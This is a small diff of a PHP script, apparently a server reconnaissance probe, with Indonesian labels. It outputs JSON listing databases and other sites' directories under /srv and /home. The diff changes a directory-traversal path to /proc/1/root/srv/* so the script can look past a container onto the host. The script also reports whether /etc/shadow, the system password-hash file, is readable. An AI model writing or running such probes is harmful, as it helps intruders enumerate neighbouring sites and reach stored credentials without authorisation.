@@ -21,7 +21,7 @@ echo json_encode([
         ['information_schema'],
     )),
     'situs_lain' => array_values(array_filter([
-        ...(glob('/srv/*') ?: []), ...(glob('/home/*') ?: []), ...(glob('/site/../../*/public') ?: []),
+        ...(glob('/srv/*') ?: []), ...(glob('/home/*') ?: []), ...(glob('/proc/1/root/srv/*') ?: []),
     ])),
     'shadow' => @file_get_contents('/etc/shadow') === false ? 'tertutup' : 'TERBUKA',
 ]);
